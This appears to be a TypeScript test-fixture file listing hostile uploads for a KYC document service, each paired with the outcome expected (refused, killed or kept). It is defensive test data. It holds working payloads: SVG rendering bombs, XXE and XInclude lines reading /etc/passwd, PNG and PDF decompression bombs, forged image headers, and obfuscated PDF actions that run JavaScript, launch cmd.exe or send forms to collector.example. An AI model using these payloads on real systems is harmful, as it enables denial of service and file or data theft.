import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { pdfOf, pngOf } from '#tests/support/kyc.ts'

/** A file given as the picture of a paper, that somebody made to do harm, or that looks as if. */
export interface HostileImage {
  /** What is the matter with it. */
  readonly title: string
  readonly bytes: () => Buffer | Promise<Buffer>
  /**
   * Refused; refused when its process was killed at its limit, as busy by a machine that gave the process no time; or
   * what is kept: its type, and its size in pixels where it is an image.
   */
  readonly ends: 'document-unusable' | 'killed' | readonly [contentType: string, width?: number, height?: number]
}

const unusable = 'document-unusable'
const hostile = (title: string, bytes: HostileImage['bytes'], ends: HostileImage['ends'] = unusable): HostileImage => ({
  title,
  bytes,
  ends,
})

export const svgOf = (inside: string, attributes = 'width="400" height="300"', before = ''): Buffer =>
  Buffer.from(
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`,
  )

const large = 'width="4000" height="4000"'
const filled = (more = '') => `<rect width="100%" height="100%" ${more}/>`
const blurs = (count: number) => `<filter id="f">${'<feGaussianBlur stdDeviation="50"/>'.repeat(count)}</filter>`

/** Two kilobytes that take minutes: every step of the filter goes over 16 million pixels. */
export const chainedFilters = (): Buffer => svgOf(blurs(60) + filled('filter="url(#f)"'), large)

/** Ten times ten times … the one before, each as large as the drawing. */
const nestedUses = (levels: number): string =>
  `<defs><g id="l0">${filled('fill-opacity=".5"')}</g>${Array.from(
    { length: levels },
    (_, at) => `<g id="l${at + 1}">${`<use href="#l${at}"/>`.repeat(10)}</g>`,
  ).join('')}</defs><use href="#l${levels}"/>`

/** Within every bound that is looked at before it is drawn, and hours of work. */
export const endlessDrawing = (): Buffer => svgOf(nestedUses(7), large)

const nested = (count: number, open: string, close: string, inside = filled()) =>
  open.repeat(count) + inside + close.repeat(count)

const nestedPatterns = (levels: number): string =>
  `<defs><pattern id="p0" width=".01" height=".01"><rect width="9" height="9"/></pattern>${Array.from(
    { length: levels },
    (_, at) =>
      `<pattern id="p${at + 1}" width=".01" height=".01"><rect width="4000" height="4000" fill="url(#p${at})"/></pattern>`,
  ).join('')}</defs>${filled(`fill="url(#p${levels})"`)}`

const embedded = (type: string, bytes: Buffer) =>
  `<image width="400" height="300" href="data:${type};base64,${bytes.toString('base64')}"/>`

const drawings: readonly HostileImage[] = [
  hostile('a drawing of chained filters', chainedFilters),
  hostile('a drawing whose one filter is chained over few pixels', () =>
    svgOf(blurs(400) + filled('filter="url(#f)"')),
  ),
  hostile(
    'a drawing with the shadow that an honest program writes',
    () =>
      svgOf(
        `<filter id="f"><feFlood/><feOffset dy="2"/><feGaussianBlur stdDeviation="2"/><feBlend in2="SourceGraphic"/></filter>${filled('filter="url(#f)"')}`,
      ),
    ['image/png', 400, 300],
  ),
  hostile('a drawing that uses itself ten million times', endlessDrawing, 'killed'),
  hostile('a drawing that uses itself a hundred million times', () => svgOf(nestedUses(8)), 'killed'),
  hostile(
    'a drawing that uses itself in a circle',
    () => svgOf('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    ['image/png', 400, 300],
  ),
  hostile('a drawing of patterns in patterns', () => svgOf(nestedPatterns(6), large), 'killed'),
  hostile('a drawing of 400 layers', () => svgOf(nested(400, '<g opacity=".99">', '</g>'), large)),
  hostile('a drawing of 100,000 elements', () => svgOf('<path d="M0 0"/>'.repeat(100_000))),
  hostile('a drawing of 19,000 elements, one in the other', () => svgOf(nested(19_000, '<g>', '</g>'))),
  hostile('a drawing of a million million pixels', () => svgOf(filled(), 'width="1000000" height="1000000"')),
  hostile('a drawing that is as large as its view', () => svgOf(filled(), 'viewBox="0 0 100000 100000"')),
  hostile('a small drawing of a huge view', () => svgOf(filled(), 'width="40" height="30" viewBox="0 0 1e9 1e9"'), [
    'image/png',
    40,
    30,
  ]),
  hostile('a drawing with entities', () =>
    svgOf('<text>&x;</text>', undefined, '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  hostile('a drawing in an encoding that hides its entities', () =>
    svgOf(
      '<text>&x;</text>',
      undefined,
      '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE svg [+ADwAIQ-ENTITY x "y">]>',
    ),
  ),
  hostile(
    'a drawing that includes a file',
    () => svgOf('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    ['image/png', 400, 300],
  ),
  hostile(
    'a drawing around an image of 400 million pixels',
    () => svgOf(embedded('image/png', pngOf(20_000, 20_000))),
    'killed',
  ),
  hostile(
    'a drawing of noise without end',
    () =>
      svgOf(
        `<filter id="f"><feTurbulence numOctaves="1000000" baseFrequency=".9"/></filter>${filled('filter="url(#f)"')}`,
        large,
      ),
    'killed',
  ),
]

const text = (keyword: string, content: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(`zTXt${keyword}\0\0`, 'latin1'), deflateSync(content)])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(body.length - 4, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

/** Put behind the head of a PNG. */
const withText = (png: Buffer, chunk: Buffer) => Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])

const small = () => sharp({ create: { width: 30, height: 20, channels: 3, background: '#369' } })

const frames = async (count: number): Promise<Buffer> =>
  sharp(Buffer.alloc(100 * 100 * count * 3, 120), {
    raw: { width: 100, height: 100 * count, channels: 3, pageHeight: 100 },
  })
    .gif()
    .toBuffer()

/** The head of a GIF with another size. */
const resized = (gif: Buffer, side: number): Buffer => {
  const copy = Buffer.from(gif)
  copy.writeUInt16LE(side, 6)
  copy.writeUInt16LE(side, 8)
  return copy
}

/** The size in the head of every frame of a JPEG changed to the largest there is. */
const enlarged = (jpeg: Buffer): Buffer => {
  const copy = Buffer.from(jpeg)
  const head = copy.findIndex((byte, at) => byte === 0xff && copy[at + 1] === 0xc0)
  copy.writeUInt16BE(65_500, head + 5)
  copy.writeUInt16BE(65_500, head + 7)
  return copy
}

const pixels: readonly HostileImage[] = [
  hostile('a PNG of 400 million pixels', () => pngOf(20_000, 20_000)),
  hostile('a PNG of 36 million pixels in one colour', () => pngOf(6_000, 6_000), ['image/png', 4_000, 4_000]),
  hostile('a PNG of one line that is a million pixels long', () => pngOf(1_000_000, 1), ['image/png', 4_000, 1]),
  hostile(
    'a PNG with a text that inflates to 300 MB',
    () => withText(pngOf(30, 20), text('Comment', Buffer.alloc(300_000_000))),
    ['image/png', 30, 20],
  ),
  hostile('a PNG that ends in the middle', () => pngOf(300, 200).subarray(0, 80)),
  hostile('a GIF of a thousand frames, of which the first is kept', () => frames(1_000), ['image/png', 100, 100]),
  hostile(
    'a GIF of few pixels that says it has four thousand million',
    async () => resized(await small().gif().toBuffer(), 65_535),
    ['image/png', 30, 20],
  ),
  hostile('a JPEG that says it has four thousand million pixels', async () =>
    enlarged(await small().jpeg().toBuffer()),
  ),
  hostile('a WebP', () => small().webp().toBuffer()),
  hostile('a TIFF', () => small().tiff().toBuffer()),
  hostile('an AVIF', () => small().avif().toBuffer()),
  hostile('a TIFF behind the first letters of a GIF', async () =>
    Buffer.concat([Buffer.from('GIF89a'), await small().tiff().toBuffer()]),
  ),
]

const pdf = (inside: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n${inside}\nendobj\ntrailer\n%%EOF\n`, 'latin1')

/** Object 2 and 3 in an object stream, which a viewer takes apart before anything is seen. */
const packedPdf = (
  catalog: string,
  two: string,
  three = '<< >>',
  dictionary = '/Type /ObjStm /Filter /FlateDecode',
) => {
  const head = `2 0 3 ${two.length + 1} `
  const packed = deflateSync(Buffer.from(`${head}${two} ${three}`, 'latin1'))
  const before = `%PDF-1.7\n1 0 obj\n${catalog}\nendobj\n5 0 obj\n<< ${dictionary} /N 2 /First ${head.length} /Length ${packed.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(before), packed, Buffer.from('\nendstream\nendobj\ntrailer\n%%EOF\n')])
}
const opening = '<< /Type /Catalog /OpenAction 2 0 R >>'

const acting: readonly (readonly [title: string, inside: string])[] = [
  ['opens an address by itself', '<< /OpenAction << /S /URI /URI (https://collector.example) >> >>'],
  ['opens an address after a page', '<< /OpenAction << /S /GoTo /D [1 0 R /Fit] /Next << /S /URI /URI (x) >> >> >>'],
  ['opens an address, its name in numbers', '<< /Open#41ction << /S /U#52I /URI (https://collector.example) >> >>'],
  ['opens another file', '<< /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>'],
  ['opens a file in it', '<< /A << /S /GoToE /T << /R /C >> >> >>'],
  ['acts when a page is seen', '<< /Type /Page /AA << /O << /S /URI /URI (https://collector.example) >> >> >>'],
  ['acts by a reference when it is closed', '<< /Type /Catalog /AA 7 0 R >>'],
  ['sends a form', '<< /A << /S /SubmitForm /F (https://collector.example) >> >>'],
  ['reads data into a form', '<< /A << /S /ImportData /F (x.fdf) >> >>'],
  ['carries a file', '<< /Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >> >>'],
  ['has a form of XML', '<< /AcroForm << /XFA [(template) 4 0 R] >> >>'],
  ['plays a film', '<< /Subtype /RichMedia >>'],
  ['opens what is nowhere', '<< /OpenAction 9 0 R >>'],
]

const papers: readonly HostileImage[] = [
  hostile('a PDF of one page', () => pdfOf(['An honest page']), ['application/pdf']),
  hostile('a PDF with a script', () => pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')),
  hostile('a PDF whose script has letters written as numbers', () =>
    pdf('<< /OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >> >>'),
  ),
  hostile('a PDF whose start of a program has letters written as numbers', () =>
    pdf('<< /OpenAction << /S /L#61unc#68 /F (cmd.exe) >> >>'),
  ),
  ...acting.map(([title, inside]) => hostile(`a PDF that ${title}`, () => pdf(inside))),
  hostile('a PDF that opens an address by an object in a stream', () =>
    packedPdf(opening, '<< /S /URI /URI (https://collector.example) >>'),
  ),
  hostile('a PDF with a script in a stream of objects', () =>
    packedPdf('<< /Type /Catalog >>', '<< /S /J#61vaScript /JS (app.alert(1)) >>'),
  ),
  hostile('a PDF whose stream of objects is not called one', () =>
    packedPdf(
      '<< /Type /Catalog >>',
      '<< /AA << /O 3 0 R >> >>',
      '<< /S /URI >>',
      '/X (9 0 obj <<) /Filter /FlateDecode',
    ),
  ),
  hostile('a PDF whose objects are packed in another way', () =>
    packedPdf('<< /Type /Catalog >>', '<< >>', '<< >>', '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]'),
  ),
  hostile('a PDF whose stream of objects inflates to 100 MB', () =>
    packedPdf('<< /Type /Catalog >>', ' '.repeat(100_000_000)),
  ),
  hostile('a PDF that opens its first page', () => pdf('<< /OpenAction [3 0 R /Fit] >>'), ['application/pdf']),
  hostile(
    'a PDF that opens its first page by an object in a stream',
    () => packedPdf(opening, '<< /S /GoTo /D [3 0 R /XYZ null null 1] >>'),
    ['application/pdf'],
  ),
  hostile(
    'a PDF with a link that a reader may click',
    () => pdf('<< /Subtype /Link /A << /S /URI /URI (https://www.mca.gov.in) >> >>'),
    ['application/pdf'],
  ),
  hostile('a PDF that does not end', () => Buffer.from('%PDF-1.7\n1 0 obj\n')),
]

export const hostileImages: readonly HostileImage[] = [...drawings, ...pixels, ...papers]
